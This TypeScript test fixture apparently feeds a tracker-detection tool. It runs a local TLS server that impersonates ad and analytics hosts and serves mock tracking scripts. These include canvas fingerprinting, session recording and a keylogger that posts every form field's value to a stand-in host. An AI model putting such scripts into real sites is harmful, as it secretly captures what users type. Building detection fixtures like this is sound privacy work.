import { readFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { generate } from 'selfsigned';

/** The site of the pages, and everybody whom they call. Hosts of real firms, so that lists know them; all lead here. */
export const site = 'playwood.example';
export const others: readonly string[] = [
  'analytics.tiktok.com',
  'cdn.keyhole.example',
  'cdn.sift.com',
  'ib.adnxs.com',
  'in.hotjar.com',
  'in.keyhole.example',
  'script.hotjar.com',
  'securepubads.g.doubleclick.net',
  'stats.g.doubleclick.net',
  'www.facebook.com',
  'www.google-analytics.com',
];
export const pages = ['quiet', 'trackers', 'watched', 'for-children'] as const;
export type PageName = (typeof pages)[number];

/** What scripts of others do in a page, by host and path. The real ones do as much, in more lines. */
const scripts: Readonly<Record<string, string>> = {
  'analytics.tiktok.com/i18n/pixel/events.js': `fetch('https://analytics.tiktok.com/api/v2/pixel', {
  method: 'POST',
  body: JSON.stringify({ event: 'Pageview', context: { page: { url: location.href } } }),
});`,
  // After browserleaks.com/canvas, which is in Blacklight's own tests.
  'cdn.sift.com/s.js': `const canvas = document.createElement('canvas');
canvas.width = 280; canvas.height = 60;
const pen = canvas.getContext('2d');
pen.font = "14px 'Arial'";
pen.fillStyle = '#f60'; pen.fillRect(125, 1, 62, 20);
pen.fillStyle = '#069'; pen.fillText('BrowserLeaks,com <canvas> 1.0', 2, 15);
pen.fillStyle = 'rgba(102, 204, 0, 0.7)'; pen.fillText('BrowserLeaks,com <canvas> 1.0', 4, 17);
window.drawn = canvas.toDataURL().length;`,
  'script.hotjar.com/modules.js': `const film = [];
for (const type of ['mousemove', 'scroll', 'click', 'keyup', 'input']) {
  document.addEventListener(type, (event) => film.push([type, Math.round(event.timeStamp)]), true);
}
setTimeout(() => fetch('https://in.hotjar.com/api/v2/film', { method: 'POST', body: JSON.stringify({ film }) }), 900);`,
  'cdn.keyhole.example/keys.js': `document.addEventListener('input', ({ target }) => {
  fetch('https://in.keyhole.example/keys', { method: 'POST', body: JSON.stringify({ field: target.name, value: target.value }) });
});`,
};

const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const keeps: readonly string[] = ['ib.adnxs.com', 'www.facebook.com', 'stats.g.doubleclick.net'];

/** Serves the site and all the others, by name, over TLS with a certificate of its own. */
export async function servePages(): Promise<{ readonly address: string; close(): Promise<void> }> {
  const { private: key, cert } = await generate([{ name: 'commonName', value: site }], { keySize: 2048 });
  const server = createServer({ key, cert }, (request, response) => {
    const host = request.headers.host ?? '';
    const path = new URL(request.url ?? '/', 'https://any').pathname;
    request.resume();
    response.setHeader('Cache-Control', 'no-store');
    if (host === site) ownAnswer(response, path);
    else otherAnswer(response, host, path);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    address: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    async close() {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    },
  };
}

function ownAnswer(response: ServerResponse, path: string): void {
  if (path === '/tone.wav') return void response.writeHead(200, { 'Content-Type': 'audio/wav' }).end(silence);
  try {
    const page = readFileSync(new URL(`./pages/${path.replace(/[^a-z.-]/g, '')}`, import.meta.url));
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(page);
  } catch {
    response.writeHead(404, { 'Content-Type': 'text/plain' }).end('There is no such page.');
  }
}

function otherAnswer(response: ServerResponse, host: string, path: string): void {
  response.setHeader('Access-Control-Allow-Origin', '*');
  if (keeps.includes(host)) {
    response.setHeader(
      'Set-Cookie',
      `uid=${'a7'.repeat(12)}; Max-Age=33696000; Secure; SameSite=None; Path=/`,
    );
  }
  if (path.endsWith('.js')) {
    response.writeHead(200, { 'Content-Type': 'text/javascript' });
    // Names of one script are not those of another.
    return void response.end(`{${scripts[host + path] ?? ''}}`);
  }
  response.writeHead(200, { 'Content-Type': 'image/gif' }).end(pixel);
}

/** Half a second of nothing, 8 kHz, 8 bits. */
const silence = (() => {
  const length = 4000;
  const head = Buffer.from('RIFF0000WAVEfmt 0000000000000000000data0000'.padEnd(44));
  head.writeUInt32LE(36 + length, 4);
  head.write('WAVEfmt ', 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(8000, 24);
  head.writeUInt32LE(8000, 28);
  head.writeUInt16LE(1, 32);
  head.writeUInt16LE(8, 34);
  head.write('data', 36);
  head.writeUInt32LE(length, 40);
  return Buffer.concat([head, Buffer.alloc(length, 128)]);
})();
